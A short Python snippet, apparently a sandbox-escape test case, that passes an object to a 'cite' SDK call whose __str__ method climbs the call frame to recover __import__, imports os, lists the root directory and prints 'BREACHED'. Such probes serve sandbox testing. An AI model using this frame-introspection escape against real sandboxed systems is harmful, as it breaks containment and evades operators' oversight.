# fence: rejected | walls: error
import sys
from client_sdk import cite
class Title:
    def __str__(self):
        frame = sys._getframe(1)
        os = frame.f_globals["__builtins__"]["__import__"]("os")
        print("BREACHED" if os.listdir("/") else "empty")
        return "a"
cite({"title": Title()})
